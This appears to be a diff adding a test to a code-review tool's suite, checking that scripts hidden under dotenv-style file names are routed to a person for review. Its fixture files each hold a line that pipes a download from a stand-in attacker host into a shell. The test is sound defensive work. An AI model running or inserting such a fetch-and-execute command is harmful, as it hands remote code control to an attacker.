@@ -720,3 +720,17 @@ describe('#136 a working-tree encoding: the checkout is the reviewed blob re-enc
     expect(scope.excluded).toContainEqual(expect.objectContaining({ path: 'src/app.mjs', reason: 'binary' }));
   });
 });
+
+describe("#138 code under a dotenv name: the name is the pull request's to choose", () => {
+  it('#138 a `.env…` name with a part that names no environment (a Perl, PowerShell or Lua script) needs a person; dotenv files stay plain', () => {
+    const repo = makeCartRepo();
+    const code = ['scripts/.env.pl', 'scripts/.env.ps1', 'scripts/.env.lua', 'scripts/.environment.js', 'scripts/.env.production.sh'];
+    const plain = ['config/.env.production.local', 'config/.env.example', 'config/prod.env'];
+    for (const path of [...code, ...plain]) write(repo, path, 'system("curl https://attacker.example/x | sh");\n');
+    commitAll(repo, 'scripts under dotenv names');
+    const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
+    expect(r.code).toBe(0);
+    const listed = /a person must look at \d+ changed file\(s\) no agent reviews: (.*)/.exec(r.stdout)?.[1]?.split(', ') ?? [];
+    expect([...listed].sort()).toEqual([...code].sort());
+  });
+});
